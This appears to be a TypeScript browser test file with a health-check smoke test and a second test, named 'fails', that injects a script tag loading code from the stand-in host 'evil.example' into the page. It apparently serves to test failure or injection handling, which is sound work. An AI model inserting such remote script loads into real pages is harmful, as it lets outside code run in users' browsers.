import { expect } from './harness/expect'
import { journey } from './harness/journey'

journey('smoke', async ({ visit }) => {
  const { page } = await visit()
  await page.goto('/healthz')
  await expect(page.getByText('ready')).toBeVisible()
})
journey('fails', async ({ visit }) => {
  const { page } = await visit()
  await page.goto('/healthz')
  await page.evaluate(() => {
    const s = document.createElement('script')
    s.src = 'https://evil.example/x.js'
    document.head.append(s)
    console.error('x')
  })
})
